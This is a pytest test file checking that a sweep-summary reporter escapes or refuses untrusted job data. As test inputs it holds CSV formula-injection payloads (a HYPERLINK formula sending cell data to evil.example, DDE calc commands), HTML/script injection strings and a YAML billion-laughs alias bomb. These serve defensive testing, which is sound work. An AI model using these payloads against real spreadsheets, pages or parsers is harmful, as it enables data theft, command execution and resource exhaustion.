"""The summary reads job directories it did not write: what it writes is escaped (no spreadsheet
formulas, no Markdown or HTML from overrides), and what it reads is bounded (sizes, YAML
aliases); a job it cannot read is one row marked unreadable."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from mammoth.reporting.run_records import MAX_RESULTS_BYTES, MAX_SMALL_FILE_BYTES, gather, read_overrides, safe_yaml
from mammoth.reporting.sweep_tables import format_csv, format_summary, markdown_text
from test_summary import REPO, complete, write_job

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]

#: A 9-level "billion laughs": 9**9 strings once its aliases are expanded, from ~550 bytes.
ALIAS_BOMB = "\n".join(
    [f"- &a0 [{', '.join(['lol'] * 9)}]"]
    + [f"- &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]" for level in range(1, 9)]
) + "\n"


def hostile_job(directory: Path, overrides: list[str], **files) -> Path:
    """:func:`write_job` with ``overrides`` written as Hydra writes them (YAML-quoted as needed)."""
    job = write_job(directory, [], **files)
    (job / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(overrides))
    return job


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("override", HOSTILE)
def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers(tmp_path: Path, override: str):
    hostile_job(tmp_path / "0", [override, "seed=0"], results=complete((40, 50, -50), (80, 10, -10), 10))
    write_job(tmp_path / "1", ["seed=1"], status={"status": "failed", "error": "=1+1 then @A1"})
    first, second = csv_rows(format_csv(gather([tmp_path])))
    assert first["overrides"] == f"'{override} seed=0"
    assert (first["class_il_bwt"], first["task_il_bwt"]) == ("-50.0", "-10.0")
    assert float(first["class_il_bwt"]) == -50
    assert (second["overrides"], second["error"]) == ("seed=1", "'=1+1 then @A1")


def test_csv_job_names_and_tabs_are_escaped_too(tmp_path: Path):
    hostile_job(tmp_path / "=evil()", ["\tx=1"], results=complete((1, 2, 3), (4, 5, 6), 1))
    (line,) = csv_rows(format_csv(gather([tmp_path])))
    assert (line["job"], line["overrides"]) == ("'=evil()", "'\tx=1")


def test_markdown_from_overrides_cannot_break_the_tables_or_inject_html(tmp_path: Path):
    override = "x=a|b\n## injected\n<img src=x onerror=alert(1)> `code` [link](javascript:alert(1))"
    hostile_job(tmp_path / "0", [override], results=complete((40, 50, -50), (80, 10, -10), 10))
    hostile_job(tmp_path / "1", ["y=<b>bold</b>"], status={"status": "failed", "error": "boom\n<script>alert(1)</script>"})
    text = format_summary(gather([tmp_path]), "sweep <i>")
    assert "<" not in text and ">" not in text.replace("&gt;", "")
    assert "## injected" not in text.replace("\\n## injected", "")  # the newline is shown, not a heading
    assert text.splitlines()[0] == "# Summary of sweep &lt;i&gt;"
    escaped = markdown_text(override)
    assert escaped == (r"x=a\|b\\n## injected\\n&lt;img src=x onerror=alert(1)&gt; \`code\` \[link\](javascript:alert(1))")
    for table in ("## Configurations", "## Jobs"):
        lines = text.split(table + "\n\n", 1)[1].split("\n\n", 1)[0].splitlines()
        assert len(lines) == 4  # header, rule, two jobs or configurations
        unescaped_pipes = {len(re.findall(r"(?<!\\)\|", line)) for line in lines}
        assert len(unescaped_pipes) == 1  # every line has the same columns
    assert "- 1 (y=&lt;b&gt;bold&lt;/b&gt;): boom" in text  # an error's first line only


def test_a_yaml_alias_bomb_is_refused_without_expanding_it(tmp_path: Path):
    assert len(ALIAS_BOMB) < 600
    with pytest.raises(yaml.YAMLError, match="YAML anchors and aliases are refused"):
        safe_yaml(ALIAS_BOMB)
    assert safe_yaml("- seed=1\n- model.lr=0.1\n") == ["seed=1", "model.lr=0.1"]
    job = write_job(tmp_path / "0", ["seed=0"], complete((1, 2, 3), (4, 5, 6), 1))
    (job / ".hydra" / "overrides.yaml").write_text(ALIAS_BOMB)
    assert read_overrides(job) is None
    (row,) = gather([tmp_path])
    assert row.status == "unreadable" and row.metrics == {}
    assert row.error == ".hydra/overrides.yaml is not readable YAML: YAML anchors and aliases are refused"


def test_oversized_files_make_the_job_unreadable_without_being_read(tmp_path: Path):
    big = write_job(tmp_path / "big", ["seed=0"])
    with open(big / "results.json", "wb") as file:
        file.truncate(8 * 10**9)  # 8 GB, sparse: reading it whole would exhaust memory
    chatty = write_job(tmp_path / "chatty", ["seed=1"], complete((1, 2, 3), (4, 5, 6), 1))
    (chatty / "job.json").write_text(json.dumps({"status": "complete", "note": "x" * MAX_SMALL_FILE_BYTES}))
    rows = {row.name: row for row in gather([tmp_path])}
    assert rows["big"].status == "unreadable"
    assert rows["big"].error == f"results.json is 8,000,000,000 bytes, over the limit of {MAX_RESULTS_BYTES:,}"
    assert rows["big"].overrides == ["seed=0"]
    assert rows["chatty"].status == "unreadable" and rows["chatty"].error.startswith("job.json is 1,048,")


@pytest.mark.parametrize(("name", "content", "error"), [
    ("results.json", "not json", "results.json is not valid JSON: Expecting value: line 1 column 1 (char 0)"),
    ("results.json", "[" * 200_000, "results.json is not valid JSON: "),
    ("results.json", "[1, 2]", "results.json is not a JSON object"),
    ("job.json", '{"status": "running"', "job.json is not valid JSON: "),
    (".hydra/overrides.yaml", "{a: 1}", ".hydra/overrides.yaml is not a list of overrides"),
    (".hydra/overrides.yaml", "- [\n", ".hydra/overrides.yaml is not readable YAML: "),
])
def test_malformed_files_are_one_unreadable_row_with_the_reason(tmp_path: Path, name: str, content: str, error: str):
    job = write_job(tmp_path / "0", ["seed=0"])
    (job / name).write_text(content)
    (row,) = gather([tmp_path])
    assert row.status == "unreadable" and row.error.startswith(error)


def test_a_fifo_is_unreadable_not_waited_on(tmp_path: Path):
    job = write_job(tmp_path / "0", ["seed=0"])
    os.mkfifo(job / "results.json")
    (row,) = gather([tmp_path])
    assert (row.status, row.error) == ("unreadable", "results.json is not a regular file")


def test_a_recorded_pid_out_of_range_and_a_long_error_do_not_break_the_summary(tmp_path: Path):
    import socket

    write_job(tmp_path / "0", ["seed=0"], status={"status": "running", "host": socket.gethostname(), "pid": 10**30})
    write_job(tmp_path / "1", ["seed=1"], status={"status": "failed", "error": "x" * 10_000})
    running, failed = gather([tmp_path])
    assert running.status == "running"
    assert len(failed.error) == 500 and failed.error.endswith("…")


def test_the_command_line_reports_an_unreadable_job_as_a_row(tmp_path: Path):
    write_job(tmp_path / "sweep" / "0", ["seed=0"], complete((40, 50, -50), (80, 10, -10), 10))
    bad = write_job(tmp_path / "sweep" / "1", ["seed=1"])
    (bad / ".hydra" / "overrides.yaml").write_text(ALIAS_BOMB)
    result = subprocess.run([sys.executable, "-m", "mammoth.summary", str(tmp_path / "sweep"), "--write"],
                            capture_output=True, text=True, cwd=REPO, timeout=120)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert "2 jobs: 1 complete, 1 unreadable." in result.stdout
    assert "- 1 ((none)): .hydra/overrides.yaml is not readable YAML: YAML anchors and aliases are refused" in result.stdout
    statuses = [line["status"] for line in csv_rows((tmp_path / "sweep" / "summary.csv").read_text())]
    assert statuses == ["complete", "unreadable"]


def test_updating_a_summary_removes_the_temporary_files_a_killed_writer_left(tmp_path: Path):
    import time

    from mammoth.reporting.summary_files import update_summary

    write_job(tmp_path / "0", ["seed=0"], complete((1, 2, 3), (4, 5, 6), 1))
    left = tmp_path / ".summary.png.abcd1234.tmp"
    left.write_bytes(b"half a png")
    os.utime(left, (time.time() - 600, time.time() - 600))
    update_summary(tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        ".summary.lock", "0", "summary.csv", "summary.md", "summary.png"]


def test_a_planted_summary_lock_link_is_refused_and_its_target_untouched(tmp_path: Path, capsys: pytest.CaptureFixture):
    from mammoth.app.summary_command import main

    write_job(tmp_path / "sweep" / "0", ["seed=0"], complete((1, 2, 3), (4, 5, 6), 1))
    target = tmp_path / "profile"
    target.write_text("keep me\n")
    (tmp_path / "sweep" / ".summary.lock").symlink_to(target)
    assert main([str(tmp_path / "sweep"), "--write"]) == 1
    error = capsys.readouterr().err
    assert error.startswith(f"Error: cannot write the summary into {str(tmp_path / 'sweep')!r}: "
                            f"{tmp_path / 'sweep' / '.summary.lock'} is a symbolic link (to {target}); ")
    assert target.read_text() == "keep me\n" and not (tmp_path / "sweep" / "summary.csv").exists()
